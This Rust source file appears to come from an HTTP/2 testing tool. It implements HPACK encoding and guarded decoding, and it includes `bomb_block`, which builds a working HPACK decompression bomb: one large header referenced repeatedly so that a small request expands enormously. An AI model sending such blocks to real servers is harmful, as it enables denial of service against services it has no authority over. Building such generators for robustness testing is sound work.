//! Header block helpers
//!
//! Ordinary header lists go through the `hpack` crate. The bomb block is
//! assembled by hand because no encoder will produce it: a single large
//! literal inserted into the dynamic table, then referenced over and over
//! so that a few bytes on the wire expand into a very large header list.

use super::error::{Error, Result};
use bytes::{BufMut, BytesMut};
use std::panic::{self, AssertUnwindSafe};

/// First dynamic table index (RFC 7541 Section 2.3.3).
pub const FIRST_DYNAMIC_INDEX: usize = 62;

/// Header block encoder
pub struct HeaderEncoder {
    inner: ::hpack::Encoder<'static>,
}

impl HeaderEncoder {
    pub fn new() -> Self {
        HeaderEncoder {
            inner: ::hpack::Encoder::new(),
        }
    }

    pub fn encode<N: AsRef<[u8]>, V: AsRef<[u8]>>(&mut self, headers: &[(N, V)]) -> Vec<u8> {
        self.inner
            .encode(headers.iter().map(|(n, v)| (n.as_ref(), v.as_ref())))
    }
}

impl Default for HeaderEncoder {
    fn default() -> Self {
        Self::new()
    }
}

/// Header block decoder. Keeps the dynamic table across blocks, so every
/// block received on a connection must pass through the same instance.
///
/// Blocks are walked once before the `hpack` crate sees them: its decoder
/// panics on some truncated or oversized integers. A block that still
/// manages to panic it poisons the decoder, since the dynamic table is then
/// in an unknown state.
pub struct HeaderDecoder {
    inner: ::hpack::Decoder<'static>,
    poisoned: bool,
}

impl HeaderDecoder {
    pub fn new() -> Self {
        HeaderDecoder {
            inner: ::hpack::Decoder::new(),
            poisoned: false,
        }
    }

    pub fn decode(&mut self, block: &[u8]) -> Result<Vec<(String, String)>> {
        if self.poisoned {
            return Err(Error::Compression("decoder state lost after an earlier block".to_string()));
        }
        check_block(block)?;

        let inner = &mut self.inner;
        let decoded = panic::catch_unwind(AssertUnwindSafe(|| inner.decode(block)));
        let fields = match decoded {
            Ok(fields) => fields.map_err(|e| Error::Compression(format!("{:?}", e)))?,
            Err(_) => {
                self.poisoned = true;
                return Err(Error::Compression("undecodable header block".to_string()));
            }
        };
        Ok(fields
            .into_iter()
            .map(|(n, v)| {
                (
                    String::from_utf8_lossy(&n).into_owned(),
                    String::from_utf8_lossy(&v).into_owned(),
                )
            })
            .collect())
    }
}

/// Continuation octets accepted after an integer prefix. Enough for values
/// far beyond any frame size.
const MAX_INTEGER_CONTINUATIONS: usize = 3;

/// Decode an N-bit prefix integer at the start of `buf`, returning the
/// value and the octets used.
pub fn decode_integer(buf: &[u8], prefix_bits: u8) -> Result<(usize, usize)> {
    let first = *buf
        .first()
        .ok_or_else(|| Error::Compression("truncated integer".to_string()))?;
    let max_prefix = (1usize << prefix_bits) - 1;
    let mut value = first as usize & max_prefix;
    if value < max_prefix {
        return Ok((value, 1));
    }

    for (i, &byte) in buf[1..].iter().enumerate() {
        if i == MAX_INTEGER_CONTINUATIONS {
            break;
        }
        value += ((byte & 0x7f) as usize) << (7 * i);
        if byte & 0x80 == 0 {
            return Ok((value, i + 2));
        }
    }
    if buf.len() > MAX_INTEGER_CONTINUATIONS + 1 {
        Err(Error::Compression("integer too large".to_string()))
    } else {
        Err(Error::Compression("truncated integer".to_string()))
    }
}

/// Skip a string literal, returning the octets it occupies.
fn skip_string(buf: &[u8]) -> Result<usize> {
    let (len, used) = decode_integer(buf, 7)?;
    let end = used + len;
    if end > buf.len() {
        return Err(Error::Compression(format!(
            "string literal of {} bytes overruns the block",
            len
        )));
    }
    Ok(end)
}

/// Walk the representations of a header block (RFC 7541 Section 6)
/// without touching any table.
pub fn check_block(block: &[u8]) -> Result<()> {
    let mut pos = 0;
    while pos < block.len() {
        let rest = &block[pos..];
        let first = rest[0];
        pos += if first & 0x80 != 0 {
            // Indexed header field.
            decode_integer(rest, 7)?.1
        } else if first & 0x20 != 0 && first & 0x40 == 0 {
            // Dynamic table size update.
            decode_integer(rest, 5)?.1
        } else {
            // Literal: 6-bit index with incremental indexing, 4-bit otherwise.
            let prefix = if first & 0x40 != 0 { 6 } else { 4 };
            let (index, mut used) = decode_integer(rest, prefix)?;
            if index == 0 {
                used += skip_string(&rest[used..])?;
            }
            used + skip_string(&rest[used..])?
        };
    }
    Ok(())
}

impl Default for HeaderDecoder {
    fn default() -> Self {
        Self::new()
    }
}

/// Integer representation with an N-bit prefix (RFC 7541 Section 5.1).
/// `flags` carries the bits above the prefix in the first byte.
pub fn encode_integer(buf: &mut BytesMut, value: usize, prefix_bits: u8, flags: u8) {
    let max_prefix = (1usize << prefix_bits) - 1;
    if value < max_prefix {
        buf.put_u8(flags | value as u8);
        return;
    }
    buf.put_u8(flags | max_prefix as u8);
    let mut rest = value - max_prefix;
    while rest >= 128 {
        buf.put_u8((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    buf.put_u8(rest as u8);
}

/// Raw string literal without Huffman coding.
fn encode_string(buf: &mut BytesMut, s: &[u8]) {
    encode_integer(buf, s.len(), 7, 0x00);
    buf.put_slice(s);
}

/// Request pseudo-headers as literals that leave the dynamic table
/// untouched.
pub fn request_prefix(method: &str, scheme: &str, authority: &str, path: &str) -> BytesMut {
    let mut buf = BytesMut::new();
    for (name, value) in [
        (":method", method),
        (":scheme", scheme),
        (":path", path),
        (":authority", authority),
    ] {
        // Literal header field without indexing, new name.
        buf.put_u8(0x00);
        encode_string(&mut buf, name.as_bytes());
        encode_string(&mut buf, value.as_bytes());
    }
    buf
}

/// HPACK bomb: a GET for `/` on `authority` whose header list contains
/// `references` + 1 copies of an `entry_size` byte header.
pub fn bomb_block(scheme: &str, authority: &str, entry_size: usize, references: usize) -> Vec<u8> {
    let mut buf = request_prefix("GET", scheme, authority, "/");

    // Literal header field with incremental indexing, new name.
    buf.put_u8(0x40);
    encode_string(&mut buf, b"x-bomb");
    encode_string(&mut buf, &vec![b'a'; entry_size]);

    for _ in 0..references {
        encode_integer(&mut buf, FIRST_DYNAMIC_INDEX, 7, 0x80);
    }
    buf.to_vec()
}

/// Size of the decoded header list of a bomb block, by the RFC 7540
/// Section 6.5.2 accounting (name + value + 32 per field).
pub fn bomb_expansion(entry_size: usize, references: usize) -> usize {
    (references + 1) * (b"x-bomb".len() + entry_size + 32)
}
